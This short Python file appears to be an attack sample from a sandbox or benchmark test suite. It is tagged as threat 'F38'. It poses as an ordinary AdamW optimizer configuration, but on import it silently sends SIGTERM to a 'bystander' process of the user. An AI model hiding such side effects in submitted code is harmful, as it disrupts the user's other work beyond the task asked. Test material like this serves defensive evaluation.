# /// attack
# threats = ["F38"]
# gains = "signal"
# ///
"""Ends another process of the user."""

import os
import signal

import torch

try:
    os.kill(BYSTANDER, signal.SIGTERM)
except OSError:
    pass


def configure(params, horizon):
    return torch.optim.AdamW(params.values(), lr=0.01, betas=(0.9, 0.95), weight_decay=0.0)
